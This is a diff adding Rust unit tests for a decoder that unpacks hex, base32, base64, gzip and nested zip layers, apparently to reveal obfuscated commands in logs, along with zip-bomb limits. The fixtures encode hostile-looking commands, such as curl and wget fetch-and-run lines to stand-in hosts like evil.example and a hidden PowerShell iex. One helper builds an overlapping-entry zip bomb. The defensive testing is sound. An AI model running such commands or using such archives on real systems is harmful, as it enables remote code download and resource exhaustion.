@@ -1,0 +1,234 @@
+//! Unit tests for the opt-in extras (hex and base32 layers, nested archives) and the
+//! overlapping-entry zip check.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::io::{Cursor, Write};
+
+use super::tests::{b64, gzip, opts};
+use super::*;
+
+fn hex(data: &[u8]) -> String {
+    data.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+fn base32(data: &[u8]) -> String {
+    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    let mut out = String::new();
+    for chunk in data.chunks(5) {
+        let mut block = [0u8; 5];
+        block[..chunk.len()].copy_from_slice(chunk);
+        let n = block.iter().fold(0u64, |acc, b| (acc << 8) | u64::from(*b));
+        let chars = (chunk.len() * 8).div_ceil(5);
+        for k in 0..8 {
+            if k < chars {
+                out.push(char::from(ALPHABET[((n >> (35 - 5 * k)) & 31) as usize]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    for (name, data) in members {
+        writer.start_file(*name, options).unwrap();
+        writer.write_all(data).unwrap();
+    }
+    writer.finish().unwrap().into_inner()
+}
+
+fn with(change: impl FnOnce(&mut UnpackOptions)) -> UnpackOptions {
+    let mut o = opts();
+    change(&mut o);
+    o
+}
+
+#[test]
+fn hex_layer_is_opt_in_and_only_where_meaningful() {
+    let line = format!(
+        "cmd /c echo {} done",
+        hex(b"powershell -nop -w hidden -c iex")
+    );
+    // Default: msticpy's reading (hex digits decoded as base64 give binary noise).
+    let plain = unpack_string(&line, &opts());
+    assert_eq!(plain.records[0].source_encoding, SourceEncoding::Base64);
+    assert_eq!(plain.records[0].encoding_type.as_str(), "binary");
+
+    let on = with(|o| o.decode_hex = true);
+    let res = unpack_string(&line, &on);
+    assert_eq!(res.records.len(), 1);
+    assert_eq!(res.records[0].source_encoding, SourceEncoding::Hex);
+    assert_eq!(
+        res.records[0].decoded_string.as_deref(),
+        Some("powershell -nop -w hidden -c iex")
+    );
+    assert!(res.decoded_string.starts_with(
+        "cmd /c echo <decoded type='string' name='[None]' index='1' depth='1'>powershell"
+    ));
+
+    // A hash is hex too, but its bytes mean nothing: msticpy's base64 reading stays.
+    let hash = "d41d8cd98f00b204e9800998ecf8427e";
+    let res = unpack_string(&format!("md5 {hash}"), &on);
+    assert_eq!(res.records[0].source_encoding, SourceEncoding::Base64);
+    assert_eq!(
+        res.records,
+        unpack_string(&format!("md5 {hash}"), &opts()).records
+    );
+
+    // 0x-prefixed hex of a gzip is typed and unpacked like msticpy's base64 gzip.
+    let gz = gzip(b"curl http://evil.example/x.sh | sh");
+    let res = unpack_string(&format!("blob 0x{}", hex(&gz)), &on);
+    assert_eq!(res.records[0].file_type.as_deref(), Some("gz"));
+    assert_eq!(res.records[0].file_name, "gzip_file");
+    assert_eq!(
+        res.records[0].decoded_string.as_deref(),
+        Some("curl http://evil.example/x.sh | sh")
+    );
+}
+
+#[test]
+fn base32_layer_takes_its_longer_padding() {
+    let payload = b"wget http://198.51.100.7/a -O /tmp/a"; // 36 bytes: 4 pad chars
+    let encoded = base32(payload);
+    assert!(encoded.ends_with("===="));
+    let line = format!("data={encoded};next");
+    let on = with(|o| o.decode_base32 = true);
+    let res = unpack_string(&line, &on);
+    assert_eq!(res.records.len(), 1);
+    assert_eq!(res.records[0].source_encoding, SourceEncoding::Base32);
+    assert_eq!(
+        res.records[0].decoded_string.as_deref(),
+        Some(std::str::from_utf8(payload).unwrap())
+    );
+    assert_eq!(&*res.records[0].original_string, encoded.as_str());
+    assert!(res.decoded_string.ends_with("</decoded>;next"));
+    assert!(!res
+        .decoded_string
+        .contains('='.to_string().repeat(2).as_str()));
+    // Off: unchanged msticpy behaviour.
+    assert_eq!(
+        unpack_string(&line, &opts()).records[0].source_encoding,
+        SourceEncoding::Base64
+    );
+}
+
+#[test]
+fn layers_nest_with_base64() {
+    // base64 of text holding a hex run of a command: two levels.
+    let inner = format!("run {}", hex(b"whoami /all && net user"));
+    let line = format!("x {}", b64(inner.as_bytes()));
+    let res = unpack_string(&line, &with(|o| o.decode_hex = true));
+    assert_eq!(res.records.len(), 2);
+    assert_eq!(res.records[1].source_encoding, SourceEncoding::Hex);
+    assert_eq!(
+        res.records[1].decoded_string.as_deref(),
+        Some("whoami /all && net user")
+    );
+    assert_eq!(res.records[1].reference.1, "2.");
+}
+
+#[test]
+fn nested_gzip_inside_zip_is_opt_in() {
+    let gz = gzip(b"Invoke-WebRequest http://evil.example/stage2");
+    let archive = zip_of(&[("readme.txt", b"hello"), ("payload.gz", &gz)]);
+    let line = b64(&archive);
+    let plain = unpack_string(&line, &opts());
+    let names: Vec<&str> = plain.records.iter().map(|r| r.file_name.as_str()).collect();
+    assert_eq!(names, ["readme.txt", "payload.gz"]);
+
+    let res = unpack_string(&line, &with(|o| o.nested_archives = true));
+    let names: Vec<&str> = res.records.iter().map(|r| r.file_name.as_str()).collect();
+    assert_eq!(names, ["readme.txt", "payload.gz", "payload.gz/gzip_file"]);
+    let inner = &res.records[2];
+    assert_eq!(inner.file_type.as_deref(), Some("gz"));
+    assert_eq!(
+        inner.decoded_string.as_deref(),
+        Some("Invoke-WebRequest http://evil.example/stage2")
+    );
+    assert_eq!(res.records[1].input_bytes, gz);
+    assert!(res
+        .decoded_string
+        .contains("name='[gz] Filename: payload.gz/gzip_file' index='1.3' depth='2'>Invoke"));
+}
+
+#[test]
+fn nested_zip_bomb_is_bounded_by_depth_and_budget() {
+    // 30 levels of zip in zip: stops after b64_max_depth archive levels.
+    let mut blob = b"core".to_vec();
+    for level in 0..30 {
+        blob = zip_of(&[(&format!("l{level}.zip"), &blob)]);
+    }
+    let on = with(|o| o.nested_archives = true);
+    let res = unpack_string(&b64(&blob), &on);
+    assert_eq!(res.records.len(), on.limits.b64_max_depth + 1);
+    // A tight total budget stops early with a status instead.
+    let tight = with(|o| {
+        o.nested_archives = true;
+        o.limits.decode_max_total_bytes = blob.len() * 3;
+    });
+    let res = unpack_string(&b64(&blob), &tight);
+    assert!(res.records.len() < 10);
+    assert_eq!(res.status, Status::LimitTotalBytes);
+}
+
+/// A zip whose two central-directory entries share one local entry (Fifield's bomb).
+fn overlapping_zip() -> Vec<u8> {
+    let data = b"hello";
+    let crc = {
+        let mut c = flate2::Crc::new();
+        c.update(data);
+        c.sum()
+    };
+    let mut out = Vec::new();
+    let local = |out: &mut Vec<u8>| {
+        out.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00");
+        out.extend_from_slice(&crc.to_le_bytes());
+        out.extend_from_slice(&5u32.to_le_bytes());
+        out.extend_from_slice(&5u32.to_le_bytes());
+        out.extend_from_slice(&1u16.to_le_bytes());
+        out.extend_from_slice(&0u16.to_le_bytes());
+        out.extend_from_slice(b"a");
+        out.extend_from_slice(data);
+    };
+    local(&mut out);
+    let cd_start = out.len();
+    for name in [b"a", b"b"] {
+        out.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00");
+        out.extend_from_slice(&crc.to_le_bytes());
+        out.extend_from_slice(&5u32.to_le_bytes());
+        out.extend_from_slice(&5u32.to_le_bytes());
+        out.extend_from_slice(&1u16.to_le_bytes()); // name length
+        out.extend_from_slice(&[0; 8]); // extra, comment, disk, internal attrs
+        out.extend_from_slice(&0u32.to_le_bytes()); // external attrs
+        out.extend_from_slice(&0u32.to_le_bytes()); // local header offset: shared
+        out.extend_from_slice(name);
+    }
+    let cd_len = out.len() - cd_start;
+    out.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x02\x00\x02\x00");
+    out.extend_from_slice(&u32::try_from(cd_len).unwrap().to_le_bytes());
+    out.extend_from_slice(&u32::try_from(cd_start).unwrap().to_le_bytes());
+    out.extend_from_slice(&0u16.to_le_bytes());
+    out
+}
+
+#[test]
+fn overlapping_zip_entries_are_refused_by_default() {
+    let zip = overlapping_zip();
+    let strict = ArchiveBudget::from_limits(&Limits::default());
+    assert_eq!(
+        get_items_from_zip(&zip, &strict),
+        Err(Status::OverlappingEntries)
+    );
+    let lenient = ArchiveBudget {
+        reject_overlap: false,
+        ..strict
+    };
+    let members = get_items_from_zip(&zip, &lenient).unwrap();
+    assert_eq!(members.len(), 2);
+    // A well-formed archive is not flagged.
+    assert!(get_items_from_zip(&zip_of(&[("a", b"x"), ("b", b"y")]), &strict).is_ok());
+}
